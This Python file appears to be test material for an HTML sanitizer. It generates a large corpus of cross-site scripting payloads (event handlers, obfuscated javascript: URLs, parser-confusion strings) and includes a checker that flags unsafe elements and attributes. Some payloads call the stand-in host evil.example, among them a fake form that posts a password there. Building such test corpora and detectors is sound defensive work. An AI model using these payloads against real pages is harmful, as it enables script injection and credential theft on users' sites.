# ruff: noqa: E501 (attacks are read best on one line)
"""HTML that tries to run a script, send a form, load something or look like a part of the page.

Each attack calls `kqran()` where it comes through, or asks the host `evil.example` for something.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import html5lib

RUN = "kqran()"
EVIL = "https://evil.example"

_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart"),
    *("onbegin", "onend", "onrepeat", "onpageshow", "onhashchange", "onscroll", "onresize"),
    *("onanimationstart", "onanimationend", "ontransitionend", "ontransitionrun", "onwheel"),
    *("onpointerover", "onpointerrawupdate", "onpointerenter", "onbeforeinput", "oncopy"),
    *(
        "onauxclick",
        "onbeforematch",
        "oncontentvisibilityautostatechange",
        "onsecuritypolicyviolation",
    ),
    *("onloadstart", "oncanplay", "onplay", "ondurationchange", "onloadedmetadata", "onsearch"),
    *("oninvalid", "oncuechange", "onformdata", "onscrollend", "onbeforetoggle", "onfinish"),
)
_ELEMENTS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open"),
    *("marquee", "iframe", "object data=x", "embed src=x", "math", "a href=# autofocus"),
    *("select autofocus", "textarea autofocus", "button autofocus", "p", "xss", "style"),
    *("link rel=stylesheet href=x", "source src=x", "track src=x", "keygen autofocus", "table"),
    *("form", "frameset", "isindex", "div tabindex=1 autofocus", "image src=x", "h2 id=x"),
)
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "vbscript:"),
    *(
        "\x01javascript:",
        "javascript\t:",
        "&#106;avascript:",
        "javascript&colon;",
        "&#x6A&#x61vascript:",
    ),
    *("javascript://x/%0a", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=,"),
    *(
        "data:image/svg+xml,<svg onload=kqran()>",
        "blob:",
        "file:///etc/",
        "filesystem:x/",
        "feed:javascript:",
    ),
    *(
        "view-source:javascript:",
        "livescript:",
        "mocha:",
        "jar:javascript:",
        "about:",
        "ftp://evil.example/",
    ),
    *("{x}javascript:", "{static}javascript:", "|filename|javascript:", "{filename}javascript:"),
    *(
        "{tag}javascript:",
        "{{a}javascript:",
        "{a|javascript:",
        "{index}javascript:",
        "{attach}//evil.example/",
    ),
    *(
        "|x|data:text/html,",
        "{a}{b}javascript:",
        "\ufeffjavascript:",
        "\u00a0javascript:",
        "x{y}javascript:",
    ),
)
_URLS = (
    *("a href", "area href", "img src", "img srcset", "img lowsrc", "img dynsrc", "img longdesc"),
    *("video src", "video poster", "audio src", "source src", "source srcset", "track src"),
    *(
        "iframe src",
        "iframe srcdoc",
        "embed src",
        "object data",
        "form action",
        "button formaction",
    ),
    *(
        "input type=image src",
        "input type=submit formaction",
        "link href",
        "base href",
        "body background",
    ),
    *(
        "table background",
        "td background",
        "blockquote cite",
        "q cite",
        "svg href",
        "svg xlink:href",
    ),
    *(
        "math href",
        "math xlink:href",
        "mi href",
        "a ping",
        "a xlink:href",
        "meta content",
        "html manifest",
    ),
    *(
        "bgsound src",
        "frame src",
        "applet code",
        "applet archive",
        "command icon",
        "isindex action",
    ),
)
# Parsers that differ make of such a text what the other one did not see.
_CONFUSED = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=kqran()&gt;">',
    '<math><mtext><h1><mglyph><svg><mtext><style><a title="</style><img src onerror=kqran()>"></style>',
    '<svg></p><style><a id="</style><img src=1 onerror=kqran()>">',
    '<svg><p><style><a id="</style><img src=1 onerror=kqran()>"></p></svg>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=kqran()>",
    '<noscript><p title="</noscript><img src=x onerror=kqran()>">',
    '<noembed><p title="</noembed><img src=x onerror=kqran()>">',
    '<noframes><p title="</noframes><img src=x onerror=kqran()>">',
    '<xmp><p title="</xmp><img src=x onerror=kqran()>">',
    '<iframe><p title="</iframe><img src=x onerror=kqran()>">',
    '<textarea><p title="</textarea><img src=x onerror=kqran()>">',
    '<title><p title="</title><img src=x onerror=kqran()>">',
    '<style><p title="</style><img src=x onerror=kqran()>">',
    '<template><p title="</template><img src=x onerror=kqran()>">',
    '<select><p title="</select><img src=x onerror=kqran()>">',
    '<select><iframe></select><img src=x: alt="</iframe><img src=x onerror=kqran()>">',
    "<plaintext><img src=x onerror=kqran()>",
    "<!--><img src=x onerror=kqran()>-->",
    "<!--!><img src=x onerror=kqran()>-->",
    "<!-- --!><img src=x onerror=kqran()> -->",
    "<![CDATA[<img src=x onerror=kqran()>]]>",
    "<svg><![CDATA[><img src=x onerror=kqran()>]]></svg>",
    "<svg><desc><![CDATA[</desc><script>kqran()</script>]]></svg>",
    "<?xml version=1?><script>kqran()</script>",
    "<? ><img src=x onerror=kqran()> ?>",
    "<! ><img src=x onerror=kqran()>",
    "</ ><img src=x onerror=kqran()>",
    "<<script>kqran()//<</script>",
    "<script/src=data:,kqran()></script>",
    "<script/x>kqran()</script y>",
    "<script\n>kqran()</script\n>",
    "<scr<script>ipt>kqran()</scr</script>ipt>",
    "<svg><script>kqran()</script></svg>",
    "<svg><script>&#107;qran()</script></svg>",
    "<svg><script xlink:href=data:,kqran() /></svg>",
    "<svg><animate onbegin=kqran() attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:kqran() /><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=kqran()></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=kqran()>#x"/></svg>',
    "<svg><foreignObject><iframe src=javascript:kqran()></foreignObject></svg>",
    "<svg><handler type=text/javascript>kqran()</handler></svg>",
    "<math><maction actiontype=statusline#https://x xlink:href=javascript:kqran()>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>kqran()</script></annotation-xml></math>",
    "<math><annotation-xml encoding=text/html><style><img src onerror=kqran()></style></annotation-xml></math>",
    '<math><mi//xlink:href="data:x,<script>kqran()</script>">x</mi></math>',
    "<table><tr><td><script>kqran()</script><table><style></table><img src=x onerror=kqran()>",
    "<table><caption><svg><title><table><img src=x onerror=kqran()>",
    '<meta http-equiv=refresh content="0;url=javascript:kqran()">',
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<base href="{EVIL}/"><script src=x></script>',
    f"<link rel=import href={EVIL}>",
    f"<link rel=prefetch href={EVIL}><link rel=preload as=image href={EVIL}/x.png>",
    f"<style>@import '{EVIL}';body{{background:url({EVIL})}}</style>",
    f'<p style="background:url({EVIL}/x.png)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">Log in again</p>',
    f'<div style="behavior:url({EVIL})">x</div><xss style="xss:expression(kqran())">',
    f"<form action={EVIL}><input name=password type=password><button>Go</button></form>",
    f"<button form=search formaction={EVIL}>Search</button>",
    f"<input type=image src={EVIL}/x.png><input type=hidden name=x><input list=y type=checkbox>",
    "<img name=getElementById><img name=body><a id=defaultView name=x href=x>x</a>",
    "<form id=x><output id=y>x</output></form><a id=x><a id=x name=y href=javascript:kqran()>",
    '<iframe srcdoc="<script>parent.kqran()</script>"></iframe>',
    f"<iframe src={EVIL} sandbox=allow-scripts></iframe><frameset><frame src={EVIL}></frameset>",
    f"<object data={EVIL}><param name=src value={EVIL}></object><embed src={EVIL}>",
    f"<portal src={EVIL}></portal><fencedframe></fencedframe><webview src={EVIL}></webview>",
    f'<img src={EVIL}/x.png srcset="{EVIL}/y.png 2x" sizes=1px>',
    f"<picture><source srcset={EVIL}/x.webp><img src=x></picture>",
    f"<video poster={EVIL}/x.png src={EVIL}/x.mp4 autoplay><track src={EVIL}/x.vtt default></video>",
    "<img src=//evil.example/x.png><img src=\"/\\evil.example/x.png\"><img src='\\\\evil.example/x'>",
    '<img src=" //evil.example/x.png"><img src="/\t/evil.example/x.png"><img src=https:evil.example>',
    "<template shadowrootmode=open><script>kqran()</script><slot></slot></template>",
    "<dialog open><p>You have been logged out</p></dialog><p popover id=x>x</p>",
    "<p contenteditable accesskey=x tabindex=1 hidden inert draggable=true slot=x is=x>x</p>",
    "<p data-toggle=modal data-bind=kqran() v-html=kqran() x-data=kqran() ng-app ng-csp>x</p>",
    '<p class="site-header search no-print" id=search role=alert aria-live=assertive>x</p>',
    "<applet code=x></applet><bgsound src=x><keygen><isindex prompt=x><marquee>x</marquee>",
    "<a href=x target=_top download=x.html rel=opener ping=https://evil.example/>x</a>",
    "<img src=x usemap=#m><map name=m><area href=javascript:kqran() shape=default></map>",
    '<a href="javascript:kqran()"<b>x</b>',
    '<img """><script>kqran()</script>">',
    "<img src='x'onerror='kqran()'><img/src=x/onerror=kqran()><img\x0csrc=x\x0conerror=kqran()>",
    "<img src=`x`onerror=kqran()><img src=x onerror\x00=kqran()><img src=x\x00onerror=kqran()>",
    "<\x00script>kqran()</script><scr\x00ipt>kqran()</script>",
    "&lt;script&gt;kqran()&lt;/script&gt;&#60;img src=x onerror=kqran()&#62;",
    "\u003cscript\u003ekqran()\u003c/script\u003e＜script＞kqran()＜/script＞",
    "<ruby><rt><script>kqran()</script><rp><style><img src onerror=kqran()>",
    "<p><a href=x><table><a href=javascript:kqran()></table></a>",
    "<ul><li><select><li><script>kqran()</script></select><keygen><script>kqran()</script>",
)
_CONTEXTS = (
    "{}",
    "<p>{}</p>",
    "<svg>{}</svg>",
    "<math><mtext>{}</mtext></math>",
    "<table>{}</table>",
    "<select>{}</select>",
    "<!-- {} -->",
    "<p title='{}'>x</p>",
)


def attacks() -> Iterator[str]:
    """Yield all of them, some 3,000."""
    for element in _ELEMENTS:
        for event in _EVENTS:
            yield f"<{element} {event}={RUN}>x"
    for place in _URLS:
        for scheme in _SCHEMES:
            yield f'<{place}="{scheme}{RUN}">x</{place.split(maxsplit=1)[0]}>'
    for piece in _CONFUSED:
        for context in _CONTEXTS:
            yield context.format(piece)


# What no page of a guest may have, in any namespace.
_FORBIDDEN = frozenset(
    {
        *("script", "style", "iframe", "frame", "frameset", "form", "object", "embed", "applet"),
        *("link", "meta", "base", "svg", "button", "select", "textarea", "template", "dialog"),
        *("portal", "fencedframe", "area", "map", "param", "bgsound", "marquee", "animate", "set"),
        *("use", "foreignobject", "maction", "annotation-xml", "mglyph", "noscript", "plaintext"),
    }
)
_LOADED = frozenset({"src", "poster", "srcset", "background", "data"})
_LINKED = frozenset({"href", "cite", "action", "formaction", "ping", "xlink:href", "manifest"})
_HARMLESS = frozenset(
    {
        *("alt", "title", "class", "dir", "lang", "width", "height", "start", "value"),
        *(
            "datetime",
            "decoding",
            "loading",
            "colspan",
            "rowspan",
            "align",
            "span",
            "scope",
            "type",
            "disabled",
        ),
        *(
            "checked",
            "tabindex",
            "controls",
            "kind",
            "srclang",
            "label",
            "reversed",
            "display",
            "aria-label",
        ),
    }
)
_IGNORED = re.compile(r"[\x00-\x20]")


def holes_in(html: str) -> list[str]:
    """Return what a browser would find in a part of a page that no guest may write."""
    builder = html5lib.getTreeBuilder("etree")
    found = []
    # A noscript is another thing to a browser than to most parsers.
    for scripting in (False, True) if "noscript" in html else (False,):
        parser = html5lib.HTMLParser(tree=builder, namespaceHTMLElements=False)
        root = parser.parseFragment(html, scripting=scripting)
        for element in root.iter():
            if isinstance(element.tag, str):
                name = element.tag.rpartition("}")[2].lower()
                found += _holes_in_element(name, {str(k): v for k, v in element.attrib.items()})
    return list(dict.fromkeys(found))


def _holes_in_element(name: str, attributes: dict[str, str]) -> Iterator[str]:
    if name in _FORBIDDEN or (name == "input" and "disabled" not in attributes):
        yield f"<{name}>"
    yield from (f"{k}={v!r}" for k, v in attributes.items() if _is_hole(k, v))


_MARKED = r"[{|].*?[}|]"
_OWN_IDS = ("user-content-", "fn:", "fnref:", "fn-", "fnref-")


def _is_hole(key: str, value: str) -> bool:
    plain = _IGNORED.sub("", value)
    scheme = re.match(rf"(?:{_MARKED})*([A-Za-z][A-Za-z0-9+.-]*):", plain)
    if key in _LINKED:
        return bool(scheme) and (scheme[1] not in {"http", "https", "mailto"} or plain[0] in "{|")
    if key in _LOADED:
        own = plain.startswith("https://example.org/")
        return not own and (bool(scheme) or bool(re.match(rf"(?:{_MARKED})?[/\\]{{2}}", plain)))
    if key == "style":
        return not re.fullmatch(r"text-align: ?(left|right|center);?", value)
    if key == "id":
        return not value.startswith(_OWN_IDS)
    return key not in _HARMLESS and not key.startswith("data-footnote")
